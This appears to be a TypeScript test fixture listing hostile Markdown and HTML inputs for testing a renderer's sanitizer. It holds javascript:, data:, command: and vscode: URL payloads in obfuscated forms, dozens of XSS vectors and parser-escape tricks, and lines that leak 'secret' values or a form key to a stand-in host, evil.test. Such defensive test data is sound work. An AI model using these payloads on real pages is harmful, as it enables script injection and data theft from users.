/** Hostile Markdown: URL schemes in every form of links and images, and known attacks on other renderers. */

/** URLs that must never be opened; `hit()` is what a script would call. The control character belongs to its URL. */
const addresses: readonly string[] = `
javascript:hit() JaVaScRiPt:hit() java&#115;cript:hit() &#x6A;avascript:hit() javascript&colon;hit()
java&Tab;script:hit() java&NewLine;script:hit() \u0001javascript:hit() %6Aavascript:hit() vbscript:hit()
data:text/html,<script>hit()</script> data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg/onload=hit()> command:workbench.action.terminal.new COMMAND:analyticsChat.signOut?%5B%5D
vscode:extension/evil.evil vscode://evil.evil/run vscode-insiders://evil.evil/run vscode-webview://x/y
vscode-resource:/etc/passwd file:///etc/passwd blob:https://evil.test/x about:blank chrome://settings
view-source:https://evil.test ftp://evil.test/x ws://evil.test/x tel:1 intent://evil //evil.test/x /\\evil.test
\\\\evil.test\\share ../../secrets #id ?q=1 https: http:// mailto feed:javascript:hit()
`
  .trim()
  .split(/[ \n]/);

const forms: readonly ((address: string) => string)[] = [
  (address) => `[text](${address})`,
  (address) => `[text](<${address}> "title")`,
  (address) => `<${address}>`,
  (address) => `![alt](${address})`,
  (address) => `[![alt](${address})](${address})`,
  (address) => `[text][ref]\n\n[ref]: ${address}\n`,
  (address) => `![alt][ref]\n\n[ref]: <${address}> "onerror=hit()"\n`,
  (address) => `| a |\n|---|\n| [x](${address}) ![y](${address}) ${address} |\n`,
];

export const html: readonly string[] = [
  '<script>hit()</script>',
  '<ScRiPt src=https://evil.test/x.js></sCrIpT>',
  '<img src=x onerror=hit()>',
  '<img src="https://evil.test/pixel.png?leak=secret">',
  '<svg onload=hit()><animate onbegin=hit() attributeName=x /></svg>',
  '<svg><a xlink:href="javascript:hit()"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x><script>hit()</script></svg>#x"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
  '<iframe src="javascript:hit()"></iframe>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<object data="data:text/html,<script>hit()</script>"></object>',
  '<embed src="https://evil.test/x.swf">',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<style>@import "https://evil.test/x.css"; * { background: url(https://evil.test/y) }</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<form action="https://evil.test"><input name=key autofocus onfocus=hit()><button>Sign in</button></form>',
  '<details open ontoggle=hit()>x</details>',
  '<video src=https://evil.test/x onerror=hit()><source onerror=hit()></video>',
  '<audio src=x onerror=hit()>',
  '<body onload=hit()>',
  '<marquee onstart=hit()>x</marquee>',
  '<a href="javascript:hit()" id=x name=y target=_top>x</a>',
  '<a href="https://evil.test" ping="https://evil.test/p">x</a>',
  '<div style="position:fixed;inset:0;background:url(https://evil.test/z)">x</div>',
  '<p id=markdown class=md-link data-href="javascript:hit()" tabindex=0 contenteditable>x</p>',
  '<img name=createElement><form id=body><input name=parentNode></form>',
  '<template><script>hit()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<textarea><img title="</textarea><img src=x onerror=hit()>">',
  '<title></title><script>hit()</script>',
  '<![CDATA[<img src=x onerror=hit()>]]>',
  '<!--><img src=x onerror=hit()>-->',
  '<?xml-stylesheet href="javascript:hit()"?>',
  '<dialog open><button onclick=hit()>x</button></dialog>',
  '<button popovertarget=x onclick=hit()>x</button><div popover id=x onbeforetoggle=hit()></div>',
  '<xss contenteditable autofocus onfocus=hit()>',
  '<input type=image src=https://evil.test/i onerror=hit()>',
  '<portal src="https://evil.test">',
  '<a\u0000href=javascript:hit()>x</a>',
];

export const tricks: readonly string[] = [
  '[a](https://example.com "x\\" onmouseover=hit() y=\\"")',
  '[a](https://example.com/"onmouseover=hit())',
  '[a](https://example.com/<img/src=x/onerror=hit()>)',
  "![a' onerror=hit() x='](https://evil.test/i.png)",
  '![<img src=x onerror=hit()>](x)',
  '![`<script>hit()</script>`](https://evil.test/i.png)',
  '[<script>hit()</script>](https://example.com)',
  '[a][__proto__] [a][constructor]\n\n[__proto__]: javascript:hit()\n[constructor]: command:x\n',
  '```"onmouseover=hit()\ncode\n```\n',
  '```<img src=x onerror=hit()>\ncode\n```\n',
  '```sql" onclick="hit()\nselect \'<img src=x onerror=hit()>\'\n```\n',
  '```html\n</code></pre><script>hit()</script>\n```\n',
  '~~~ &lt;script&gt;\n</span><img src=x onerror=hit()>\n~~~\n',
  '    </code></pre><img src=x onerror=hit()>\n',
  '`</code><img src=x onerror=hit()>`',
  '``` x\n` ` `</pre><svg onload=hit()>',
  '# <img src=x onerror=hit()>\n\n<img src=x onerror=hit()>\n===\n',
  '> <img src=x onerror=hit()>\n> - <svg onload=hit()>\n',
  '1. <script>hit()</script>\n\n   <img src=x onerror=hit()>\n',
  '| <script>hit()</script> |\n|:---:|\n| <img src=x onerror=hit()> |\n',
  '| a |\n|---|\n| `|<svg onload=hit()>` |\n',
  '&lt;script&gt;hit()&lt;/script&gt;',
  '&#60;img src=x onerror=hit()&#62;',
  '\\<img src=x onerror=hit()\\>',
  '**<img src=x onerror=hit()**>',
  '<img src=x\n\nonerror=hit()>',
  '<scr\n<script>ipt>hit()</script>',
  'https://example.com/"><img/src=x/onerror=hit()>',
  'https://example.com/\u202ejs.cod',
  'https://user:pass@example.com%40evil.test/',
  'javascript://%0ahit()',
  'www.evil.test javascript:hit() command:x vscode://evil.evil',
  "<https://example.com/'onclick=hit()>",
  '[a](<javascript:hit()>)',
  '[a]( javascript:hit() )',
  '[a](javascript:hit(%22&quot;))',
  '[a](\tjavascript:hit())',
  '[a](JAVASCRIPT\\:hit())',
  '[a](javascript\\x3ahit())',
  '[![x](https://evil.test/a.png)][r]\n\n[r]: vscode://evil.evil/x\n',
  '![leak][r]\n\n[r]: https://evil.test/?q=secret "t"\n',
  '[x]: data:text/html,<script>hit()</script>\n\n[x]\n\n![x]\n',
  '[constructor]\n\n[hasOwnProperty]\n\n[__proto__]: x\n',
];

export const payloads: readonly string[] = [
  ...addresses.flatMap((address) => forms.map((form) => form(address))),
  ...html.flatMap((markup) => [markup, `text ${markup} text`, `- ${markup}\n\n${markup}\n`]),
  ...tricks,
];
